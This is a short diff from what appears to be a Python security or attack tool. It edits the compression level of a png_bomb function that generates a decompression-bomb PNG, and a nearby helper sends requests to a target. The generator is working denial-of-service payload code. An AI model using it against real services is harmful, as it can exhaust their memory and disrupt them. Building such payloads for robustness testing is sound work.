@@ -39,7 +39,7 @@ def get(target, method="GET", more=""):
 def png_bomb(side):
     def chunk(name, data):
         return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
-    packer = zlib.compressobj(9)
+    packer = zlib.compressobj(1)
     rows = b"".join(packer.compress(bytes(side + 1)) for _ in range(side)) + packer.flush()
     return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
             + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
